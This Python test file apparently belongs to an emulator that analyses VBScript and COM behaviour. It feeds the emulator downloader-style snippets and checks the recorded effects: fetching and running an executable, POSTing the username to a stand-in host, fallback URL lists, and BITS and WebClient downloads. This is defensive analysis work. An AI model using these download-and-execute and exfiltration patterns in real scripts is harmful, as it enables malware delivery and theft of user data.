import pytest
from evaluate.com.program import run, value

URL = "http://files.example.test/a.exe"
CLASSES = [
    "MSXML2.XMLHTTP",
    "MSXML2.XMLHTTP.6.0",
    "Microsoft.XMLHTTP",
    "MSXML2.ServerXMLHTTP.3.0",
    "WinHttp.WinHttpRequest.5.1",
    "new:{88D96A0A-F192-11D4-A65F-0040963251E5}",
    "MSXML2.XMLHTTP60",
]


@pytest.mark.parametrize("name", CLASSES)
def test_download_to_a_file_and_run(name):
    outcome = run(
        f"""
        Set h = CreateObject("{name}")
        h.Open "GET", "{URL}", False
        h.Send
        If h.Status = 200 And h.readyState = 4 Then
            Set s = CreateObject("ADODB.Stream")
            s.Type = 1: s.Open: s.Write h.responseBody: s.SaveToFile "C:\\Users\\Public\\a.exe", 2
        End If
        CreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe"
        """
    )
    assert outcome.effects() == [("download", URL), ("download", URL), ("run", r"C:\Users\Public\a.exe")]
    assert [f.detail.get("path") for f in outcome.facts if f.kind == "effect.download"] == [None, r"C:\Users\Public\a.exe"]
    assert outcome.texts() == [r"C:\Users\Public\a.exe"]


@pytest.mark.parametrize(
    "statements",
    [
        'Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("a.js"): f.Write h.responseText: f.Close',
        'Dim b() As Byte: b = h.responseBody\nSet s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write b: s.SaveToFile "a.js"',
        'Set s = CreateObject("ADODB.Stream"): s.Open: s.WriteText h.responseText: s.SaveToFile "a.js"',
        'Set s = CreateObject("ADODB.Stream"): s.Open: s.WriteText "x" & h.responseText: s.SaveToFile "a.js"',
    ],
)
def test_content_remembers_its_address(statements):
    outcome = run(f'Set h = CreateObject("MSXML2.XMLHTTP"): h.Open "GET", "{URL}", 0: h.Send\n{statements}')
    saved = [f for f in outcome.facts if f.detail.get("path") == "a.js"]
    assert [(f.kind, f.value) for f in saved] == [("effect.download", URL)]


def test_what_is_sent_is_told():
    outcome = run(
        f"""
        Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
        h.Option(0) = "agent/1"
        h.SetTimeouts 1, 2, 3, 4
        h.Open "POST", "{URL}", True
        h.Send "user=" & CreateObject("WScript.Network").UserName
        Main = h.WaitForResponse(10) & h.GetResponseHeader("Content-Type")
        """
    )
    assert outcome.value == "Trueapplication/octet-stream"
    detail = outcome.fact("effect.download").detail
    assert (detail["method"], detail["body"], detail["agent"]) == ("POST", "user=tanaka", "agent/1")


LIST = """
    For Each u In Array("http://a.example.test/1", "http://b.example.test/2")
        Set h = CreateObject("MSXML2.XMLHTTP"): h.Open "GET", u, False: h.Send
        If h.Status = 200 Then Exit For
    Next
    """


def test_when_nothing_can_be_reached_all_addresses_show():
    assert run(LIST).effects("download") == ["http://a.example.test/1"]
    assert run(LIST, online=False).effects("download") == ["http://a.example.test/1", "http://b.example.test/2"]


def test_sending_before_opening_is_an_error():
    assert run('CreateObject("MSXML2.XMLHTTP").Send').error == -2147483638


def test_client_of_dotnet_and_background_transfer():
    outcome = run(
        f"""
        CreateObject("System.Net.WebClient").DownloadFile "{URL}", "C:\\a.exe"
        With CreateObject("new:{{4991D34B-80A1-4291-83B6-3328366B9097}}").CreateJob("x", 0)
            .AddFile "{URL}", "C:\\b.exe": .Resume: .Complete
        End With
        """
    )
    assert [f.detail["path"] for f in outcome.facts if f.kind == "effect.download"] == [r"C:\a.exe", r"C:\b.exe"]
    assert value('CreateObject("Scripting.FileSystemObject").FileExists("C:\\a.exe")', "") is False


def test_unknown_addresses_keep_their_known_parts():
    outcome = run(
        """
        Set h = CreateObject("MSXML2.XMLHTTP")
        h.Open "GET", "http://files.example.test/" & CreateObject("WScript.Shell").Exec("hostname").StdOut.ReadLine, False
        h.Send
        """
    )
    assert outcome.effects("download") == ["http://files.example.test/<Unknown: output of hostname>"]
